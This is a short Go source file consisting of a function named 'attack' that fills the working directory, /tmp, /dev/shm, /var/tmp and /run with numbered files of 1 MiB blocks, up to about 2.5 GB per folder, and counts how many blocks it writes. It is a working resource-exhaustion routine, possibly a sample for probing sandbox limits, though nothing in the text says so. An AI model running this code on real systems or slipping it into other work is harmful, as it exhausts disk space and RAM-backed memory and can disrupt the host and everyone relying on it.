package main

import (
	"fmt"
	"os"
)

func attack(n int) int {
	total := 0
	block := make([]byte, 1<<20)
	for _, folder := range []string{".", "/tmp", "/dev/shm", "/var/tmp", "/run"} {
		hasRoom := true
		for number := 0; number < 40 && hasRoom; number++ {
			file, err := os.Create(fmt.Sprintf("%s/fill-%d", folder, number))
			hasRoom = err == nil
			for i := 0; i < 64 && hasRoom; i++ {
				_, err := file.Write(block)
				hasRoom = err == nil
				if hasRoom {
					total++
				}
			}
		}
	}
	return total
}
